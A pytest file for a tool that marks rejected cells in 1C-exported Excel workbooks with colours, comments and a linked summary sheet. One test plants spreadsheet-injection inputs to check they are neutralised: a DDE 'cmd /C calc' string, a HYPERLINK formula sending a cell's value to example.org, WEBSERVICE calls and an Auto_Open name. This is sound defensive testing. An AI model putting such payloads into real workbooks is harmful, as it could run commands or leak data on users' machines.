"""The marked workbook: the right cells coloured and explained, everything listed with links, nothing that executes."""

import io

import openpyxl
import pytest
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from cpimportd.render.workbooks.rejects import LIST, Compared, Note, mark

COLUMNS = {"operation_id": "A", "amount": "B"}
GRAVE = Note(2, "Сумма", "сто", "Не число", "Исправьте", True)
LIGHT = Note(3, "Комментарий", None, "Странно", "Проверьте", False)


@pytest.fixture
def workbook():
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Лист '1'"
    sheet.append(["Списание", "Сумма", "Комментарий"])
    sheet.append(["Списание 1", "сто", None])
    sheet.append(["Списание 2", 12.5, "=1+1"])
    sheet.append(["Списание 3", 7, "text"])
    return book


def marked(book, *notes, **more):
    stored = io.BytesIO()
    book.save(stored)
    stored.seek(0)
    more = {"sheet": book.active.title, "columns": COLUMNS} | more
    return openpyxl.load_workbook(io.BytesIO(mark(stored, notes, **more)))


def test_each_cell_is_coloured_and_says_what_is_wrong_and_what_to_do(workbook):
    sheet = marked(workbook, GRAVE, LIGHT).worksheets[1]
    assert sheet["B2"].fill.fgColor.rgb == "FFFFC7CE"
    assert sheet["C3"].fill.fgColor.rgb == "FFFFEB9C"
    for word in ("Не число", "Сумма", "сто", "Исправьте"):
        assert word in sheet["B2"].comment.text
    commented = {cell.coordinate for row in sheet.iter_rows() for cell in row if cell.comment}
    assert commented == {"B2", "C3"}


def test_what_1c_sent_is_otherwise_as_it_was(workbook):
    sheet = marked(workbook, GRAVE).worksheets[1]
    assert list(sheet.iter_rows(values_only=True)) == list(workbook.active.iter_rows(values_only=True))


def test_the_first_sheet_lists_everything_with_links(workbook):
    book = marked(workbook, Note(None, None, None, "Вся книга", "Выгрузите снова", True), GRAVE, LIGHT)
    assert book.sheetnames == [LIST, "Лист '1'"]
    assert book.active.title == LIST
    _, *rows = book[LIST].iter_rows()
    assert [row[4].value for row in rows] == ["Вся книга", "Не число", "Странно"]
    assert [row[1].hyperlink and row[1].hyperlink.location for row in rows] == [
        None,
        "'Лист ''1'''!B2",
        "'Лист ''1'''!C3",
    ]
    assert [row[7].value for row in rows] == [None, "Списание 1", "Списание 2"]


def test_amounts_stand_beside_each_other_where_two_are_compared(workbook):
    gap = "сумма строк меньше, чем «Итого», на 0,50"
    compared = Compared("Сумма строк", "1234.50", "«Итого»", "1235.00", gap)
    book = marked(workbook, GRAVE._replace(compared=compared), LIGHT)
    titles, first, second = book[LIST].iter_rows(values_only=True)
    assert titles[3:10] == ("Значение", "Одна сумма", "Сколько", "Другая сумма", "Сколько", "Разница", "Что не так")
    assert first[4:9] == ("Сумма строк", 1234.5, "«Итого»", 1235, gap)
    assert second[4:9] == (None,) * 5
    assert [book[LIST].cell(2, column).number_format for column in (6, 8)] == ["#,##0.00"] * 2
    said = book.worksheets[1]["B2"].comment.text.replace("\N{NO-BREAK SPACE}", " ")
    assert "Сумма строк: 1 234,50\n«Итого»: 1 235,00\nРазница: сумма строк меньше" in said
    assert "Одна сумма" not in next(marked(workbook, GRAVE)[LIST].iter_rows(values_only=True))


def test_several_things_wrong_with_one_cell_stand_in_one_comment(workbook):
    sheet = marked(workbook, GRAVE, GRAVE._replace(text="Слишком много", grave=False)).worksheets[1]
    assert "Не число" in sheet["B2"].comment.text
    assert "Слишком много" in sheet["B2"].comment.text
    assert sheet["B2"].fill.fgColor.rgb == "FFFFC7CE"


def test_a_row_without_a_column_is_marked_at_its_document(workbook):
    assert marked(workbook, GRAVE._replace(column=None)).worksheets[1]["A2"].comment
    assert marked(workbook, GRAVE._replace(column="Нет такой"), columns={}).worksheets[1]["A2"].comment
    assert marked(workbook, GRAVE._replace(row=9999))[LIST]["E2"].value == "Не число"


def test_what_is_wrong_in_merged_cells_stands_at_their_top_left_and_in_the_list_by_row(workbook):
    workbook.active.merge_cells("A2:B3")
    notes = (GRAVE, GRAVE._replace(row=3, column=None, text="Нет суммы"), GRAVE._replace(row=4, text="Мало"))
    book = marked(workbook, *notes)
    sheet = book.worksheets[1]
    assert {cell.coordinate for row in sheet.iter_rows() for cell in row if getattr(cell, "comment", None)} == {
        "A2",
        "B4",
    }
    assert "Не число" in sheet["A2"].comment.text
    assert "Нет суммы" in sheet["A2"].comment.text
    assert sheet["A2"].fill.fgColor.rgb == "FFFFC7CE"
    assert [row[1].value for row in book[LIST].iter_rows(min_row=2)] == ["B2", "A3", "B4"]


def test_nothing_in_it_executes(workbook):
    sheet = workbook.active
    sheet["C4"] = '=HYPERLINK("http://example.org/"&B2,"x")'
    sheet["C2"].value, sheet["C2"].data_type = "=cmd|' /C calc'!A0", "s"
    sheet["A4"].hyperlink = "http://example.org/"
    workbook.defined_names["Auto_Open"] = DefinedName("Auto_Open", attr_text="'Лист ''1'''!$B$2")
    sheet.add_data_validation(DataValidation("custom", formula1='=WEBSERVICE("http://example.org")', sqref="B2"))
    sheet.conditional_formatting.add("B2", FormulaRule(formula=['WEBSERVICE("x")'], fill=PatternFill("solid")))
    wicked = Note(2, "Сумма", "=1+1", "+2", "@SUM(1)", True)
    stored = io.BytesIO()
    workbook.save(stored)
    stored.seek(0)
    content = mark(stored, [wicked], sheet=sheet.title, columns=COLUMNS)
    book = openpyxl.load_workbook(io.BytesIO(content))
    for page in book.worksheets:
        for row in page.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    assert cell.quotePrefix, cell
                assert cell.hyperlink is None or cell.hyperlink.target is None
        assert not page.data_validations.dataValidation
        assert not page.conditional_formatting
    assert not book.defined_names
    assert book.worksheets[1]["C4"].value.startswith("=HYPERLINK")


def test_the_sheet_that_was_read_is_marked_and_no_other(workbook):
    other = workbook.create_sheet("Другой", 0)
    other["B2"] = "сюда нельзя"
    book = marked(workbook, GRAVE, sheet="Лист '1'")
    assert book["Лист '1'"]["B2"].comment
    assert not book["Другой"]["B2"].comment
